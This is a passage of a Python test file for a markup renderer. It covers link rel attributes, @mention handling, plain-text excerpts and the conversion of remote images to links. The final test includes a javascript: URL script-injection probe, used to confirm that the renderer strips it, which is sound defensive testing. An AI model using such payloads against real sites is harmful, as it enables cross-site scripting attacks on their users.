    assert link["rel"] == "nofollow ugc noopener"
    assert ">https://example.org/catalog?q=rda&amp;page=2</a>" in html
    www = [a for t, a in elements(markup.render("Try www.example.org today")) if t == "a"]
    assert www and www[0]["href"].startswith("http://www.example.org")
    assert www[0]["rel"] == "nofollow ugc noopener"


def test_markdown_links_and_emails_get_rel():
    html = markup.render(
        '[catalog](https://example.org/c "The catalog") and [help](/help) '
        "and write to help@example.org"
    )
    links = [a for t, a in elements(html) if t == "a"]
    assert [a["href"] for a in links] == [
        "https://example.org/c",
        "/help",
        "mailto:help@example.org",
    ]
    assert all(a["rel"] == "nofollow ugc noopener" for a in links)
    assert links[0]["title"] == "The catalog"


def test_basic_markup_survives():
    html = markup.render(
        "# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n> quoted\n\n"
        "1. one\n2. two\n\n- a\n- b\n\n---\n\nline  \nbreak"
    )
    tags = {t for t, _ in elements(html)}
    assert {"h1", "strong", "em", "code", "blockquote", "ol", "ul", "li", "hr", "br"} <= tags
    assert tags & {"s", "del"}, html
    ordered = markup.render("3. third\n4. fourth")
    assert '<ol start="3">' in ordered


def test_mention_becomes_profile_link():
    html = markup.render("Thanks @alice, and @bob_2 too.")
    links = [a for t, a in elements(html) if t == "a"]
    assert [a["href"] for a in links] == ["/members/alice", "/members/bob_2"]
    assert all(a["class"] == "mention" for a in links)
    assert '<a href="/members/alice" class="mention" rel="nofollow ugc noopener">@alice</a>' in html


def test_mentions_in_code_links_and_emails_are_not_links():
    for source in (
        "`@alice`",
        "```\n@alice\n```",
        "    @alice indented code",
        "[ask @alice](https://example.org)",
        "write to bob@alice.org",
        "https://example.org/@alice",
    ):
        html = markup.render(source)
        assert "/members/alice" not in html, (source, html)
        assert markup.mentions(source) == [], source


def test_mentions_in_quotes_are_links_but_call_no_one():
    source = (
        "> @dave asked, and\n> > @erin asked first\n\n"
        "- > @frank in a quoted list item\n\n"
        "@gina: see above, and\n\n> quoted again\n\nthen @hal after the quote"
    )
    assert markup.mentions(source) == ["gina", "hal"]
    html = markup.render(source)
    assert all(f"/members/{n}" in html for n in ("dave", "erin", "frank", "gina", "hal"))


def test_mentions_are_listed_in_order_without_repeats():
    source = (
        "@carol asked @alice; @alice answered.\n\n"
        "> @dave quoted\n\n"
        "- @erin in a list\n\n"
        "`@frank` in code, and x@gina.org is an address, and @h is too short.\n\n"
        "```\n@ivan\n```\n"
    )
    assert markup.mentions(source) == ["carol", "alice", "erin"]
    assert markup.mentions("nobody here") == []
    assert markup.mentions("@Alice is not a username (they are lowercase)") == []


def test_excerpt_is_plain_text():
    source = (
        "# Heading\n\n**Bold** and _italic_ with [a link](https://example.org) and `code`.\n\n"
        "> quoted text\n\n- item one\n- item two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    text = markup.excerpt(source)
    assert text.startswith("Heading Bold and italic with a link and code. quoted text")
    for mark in ("**", "#", "_italic_", "[", "](", "`", "|", "<", ">", "&amp;"):
        assert mark not in text, (mark, text)
    assert "item one item two" in text
    assert markup.excerpt("Fish &amp; chips & peas") == "Fish & chips & peas"


def test_excerpt_shortens_at_a_word():
    source = " ".join(["word"] * 100)
    text = markup.excerpt(source, 50)
    assert len(text) <= 50
    assert text.endswith("…")
    assert text[:-1].split() == ["word"] * len(text[:-1].split())
    assert markup.excerpt("short", 50) == "short"


def test_an_image_becomes_a_link_to_it_named_by_its_alt_text():
    """Remote images would tell their host who reads a post: each becomes a plain link, with
    no stray "!" before it."""
    html = markup.render("See ![the floor plan](https://example.org/plan.png) first")
    assert "<img" not in html and "!" not in html
    assert '<a href="https://example.org/plan.png"' in html and ">the floor plan</a>" in html
    untitled = markup.render("![](https://example.org/x.png)")
    assert ">https://example.org/x.png</a>" in untitled
    assert "href" not in markup.render("![x](javascript:alert(1))")
